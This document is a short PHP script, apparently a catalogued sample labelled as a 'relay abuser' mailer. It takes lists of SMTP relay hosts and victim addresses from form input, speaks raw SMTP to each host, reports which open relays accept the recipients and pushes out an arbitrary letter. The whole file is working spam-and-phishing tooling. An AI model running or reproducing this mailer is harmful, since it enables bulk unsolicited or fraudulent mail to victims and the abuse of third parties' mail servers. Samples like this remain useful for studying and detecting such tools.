<?php
// Family: mailer/raw-smtp
// Style: relay abuser that tries many hosts
// Trait: host list from POST, tries each open relay, STARTTLS-less plain dialogue, prints the 250 replies
set_time_limit(0);
$relays = explode("\n", $_POST['relays']);
$victims = explode("\n", $_POST['victims']);
foreach ($relays as $rl) {
	list($rh, $rp) = array_pad(explode(':', trim($rl)), 2, 25);
	$s = @fsockopen($rh, $rp, $e1, $e2, 5);
	if (!$s) { echo "$rh dead\n"; continue; }
	fgets($s);
	fputs($s, "EHLO probe\r\n"); while (($l = fgets($s)) && $l[3] == '-');
	fputs($s, "MAIL FROM:<" . $_POST['env_from'] . ">\r\n"); fgets($s);
	foreach ($victims as $v) { fputs($s, "RCPT TO:<" . trim($v) . ">\r\n"); $ans = fgets($s); if (substr($ans, 0, 3) == '250') echo "$rh accepts $v\n"; }
	fputs($s, "DATA\r\n"); fgets($s); fputs($s, $_POST['letter'] . "\r\n.\r\n"); fgets($s);
	fclose($s);
}
